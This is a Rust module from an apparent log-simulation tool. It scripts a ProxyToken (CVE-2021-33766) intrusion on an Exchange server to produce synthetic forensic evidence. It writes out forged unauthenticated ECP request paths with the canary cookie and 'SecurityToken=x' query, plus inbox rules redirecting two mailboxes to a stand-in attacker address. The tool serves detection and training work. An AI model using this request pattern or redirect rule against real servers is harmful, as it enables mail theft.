//! ProxyToken (CVE-2021-33766): the day after it was published, somebody without a password makes inbox rules that send
//! mail outside.
//!
//! Spelling after ZDI (2021-08-30). The token is a cookie; one of the two requests also carries it in its query.

use std::io;

use crate::campaigns::Story;
use crate::cast::{self, Known};
use crate::exchange_logs::{self, Audited};
use crate::plan::Plan;
use crate::scanners::Noise;
use crate::server::{Agent, Backend, Build, Protocol, Request, Server};
use crate::setting::{Setting, Update};
use crate::time::{DAY, HOUR, MINUTE, SECOND, Time};
use crate::transport::{self, Message};
use crate::windows;

pub(super) const STORY: Story = Story {
    name: "proxytoken",
    description: "ProxyToken on 31 August 2021, inbox rules that send mail of two people outside, updated on 5 September",
    verdict: "compromised",
    campaign: Some("proxytoken"),
    also: None,
    entry: "vulnerability",
    days: 21,
    bytes_per_day: 320_000,
    setting,
    tell,
};

const INTRUDER: &str = "203.0.113.31";
const AGENT: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:78.0) Gecko/20100101 Firefox/78.0";
const OUTSIDE: &str = "archive@mail.evil.example";
const CANARY: &str = "msExchEcpCanary=mP1xV7dT0kq4cY2nB6wZ9sRaLhUeJf3G.";

fn setting() -> Setting {
    let builds = Build::of_2016((2_242, 4), (2_242, 12));
    let update = Update::Security(Time::day(2021, 9, 5).at(3, 0, 0));
    let days = (Time::day(2021, 8, 30), Time::day(2021, 9, 6), Time::day(2021, 9, 10));
    Setting::new(days, builds, update, Noise::ProxyShell).installed(
        Time::day(2021, 3, 27).at(5, 20, 44),
        "CU20",
        "15.1.2242.4",
        "15.1.2176.4",
    )
}

fn tell(plan: &mut Plan) {
    ordinary_rules(plan);
    let at = Time::day(2021, 8, 31).at(20, 11, 5);
    for (number, person, token) in [(0, cast::known(0), "&SecurityToken=x"), (1, cast::known(3), "")] {
        let at = at.plus(number * 4 * MINUTE);
        plan.tell(at, format!("{INTRUDER} makes a rule that redirects mail of {} to {OUTSIDE}", person.mail));
        let mailbox = person.mail.clone();
        plan.step(at, move |server, at| {
            let home = format!("/ecp/{mailbox}/PersonalSettings/HomePage.aspx");
            forged(server, at, "GET", &home, "showhelp=false")
        });
        let rule = person.clone();
        plan.step(at.plus(6 * SECOND), move |server, at| {
            let stem = format!("/ecp/{}/RulesEditor/InboxRules.svc/NewObject", rule.mail);
            let query = format!("{CANARY}{token}");
            forged(server, at, "POST", &stem, &query)?;
            let new = Rule { person: &rule, name: "1", action: "RedirectTo", target: OUTSIDE };
            made(server, at.plus(260), &new, &format!("{stem}?{query}"))
        });
        forwarded_mail(plan, at, &person);
    }
    removed(plan, Time::day(2021, 9, 4).at(9, 30, 12));
}

/// The front end passes it on unseen, because the back end is to check the token, which it does not.
fn forged(server: &mut Server, at: Time, method: &str, stem: &str, query: &str) -> io::Result<()> {
    let agent = Agent::new(AGENT);
    let request = Request {
        query,
        client: INTRUDER,
        authentication: "FBA",
        status: 500,
        backend_status: Some(200),
        bytes: (640, 1_204),
        hint: "ExplicitLogon-SMTP",
        milliseconds: server.random.between(90, 400) as i64,
        backend: Some(Backend { stem, query, user: "" }),
        ..Request::new(Some(Protocol::Ecp), method, stem, &agent)
    };
    server.web(at, &request).map(|_| ())
}

/// An inbox rule.
struct Rule<'a> {
    person: &'a Known,
    name: &'a str,
    /// `RedirectTo`, `MoveToFolder`.
    action: &'a str,
    target: &'a str,
}

/// What the control panel logs of a new rule, whoever asked for it.
fn made(server: &mut Server, at: Time, rule: &Rule<'_>, url: &str) -> io::Result<()> {
    let Rule { person, name, action, target } = rule;
    let command = format!("New-InboxRule.Name='{name}'.{action}='{target}'.Mailbox='{}'", person.mail);
    exchange_logs::ecp_server(server, at, &command, url, "")?;
    let parameters = format!("-Name \"{name}\" -{action} \"{target}\" -Mailbox \"{}\"", person.mail);
    windows::cmdlet(server, at.plus(40), "New-InboxRule", &parameters)?;
    let object = format!("contoso.example/Users/{}\\{name}", person.user);
    let parameters = [("Mailbox", person.mail.as_str()), ("Name", *name), (*action, *target)];
    let audited =
        Audited { operation: "New-InboxRule", user: &person.account, object: &object, parameters: &parameters };
    exchange_logs::audit(server, at.plus(60), &audited)
}

/// Whatever arrives goes outside as well.
fn forwarded_mail(plan: &mut Plan, from: Time, person: &Known) {
    let first = from.midnight().plus(DAY);
    for day in 0..3 {
        for hour in [7, 10, 14] {
            let mail = person.mail.clone();
            plan.step(first.plus(day * DAY + hour * HOUR + person.rid as i64 * SECOND), move |server, at| {
                let bytes = server.random.between(20_000, 600_000) as i64;
                let (subject, client) = ("Contract, second draft", "192.0.2.231");
                let arrived = Message { sender: "contact3@fabrikam.example", recipient: &mail, subject, client, bytes };
                transport::received(server, at, &arrived)?;
                let address = server.identity.address.clone();
                let sent_on =
                    Message { sender: &mail, recipient: OUTSIDE, subject, client: &address, bytes: bytes + 900 };
                transport::redirected(server, at.plus(2_300), &sent_on)
            });
        }
    }
    plan.tell(first.plus(7 * HOUR), format!("mail of {} begins to go to {OUTSIDE}", person.mail));
}

/// The administrator finds and removes the rules before the update.
fn removed(plan: &mut Plan, at: Time) {
    use crate::management_shell::{self, ADMINISTRATOR};
    for (wait, person) in [(0, cast::known(0)), (50, cast::known(3))] {
        let parameters = format!("-Identity \"1\" -Mailbox \"{}\" -Confirm \"False\"", person.mail);
        management_shell::runs(plan, at.plus(wait * SECOND), ADMINISTRATOR, "Remove-InboxRule", &parameters);
    }
    plan.tell(at, "the administrator removes both rules".to_owned());
}

/// Rules that people make for themselves, signed in: into a folder, and to a colleague.
fn ordinary_rules(plan: &mut Plan) {
    const STEM: &str = "/ecp/RulesEditor/InboxRules.svc/NewObject";
    let rules: [(i64, u32, &str, &str, &str); 2] = [
        (30, 7, "Newsletters", "MoveToFolder", "Newsletters"),
        (31, 8, "While I am away", "RedirectTo", "luca.keller@contoso.example"),
    ];
    for (day, number, name, action, target) in rules {
        plan.step(Time::day(2021, 8, day).at(11, 8, 40), move |server, at| {
            let (agent, person) = (Agent::new(&cast::browsers(2021)[1]), cast::known(number));
            let request = Request {
                query: CANARY,
                user: &person.account,
                client: "10.20.30.31",
                referer: "https://mail.contoso.example/ecp/",
                anchor: &person.anchor,
                hint: "WindowsIdentity",
                bytes: (700, 1_800),
                milliseconds: 210,
                backend: Some(Backend { stem: STEM, query: CANARY, user: &person.account }),
                ..Request::new(Some(Protocol::Ecp), "POST", STEM, &agent)
            };
            server.web(at, &request)?;
            made(server, at.plus(190), &Rule { person: &person, name, action, target }, &format!("{STEM}?{CANARY}"))
        });
    }
}
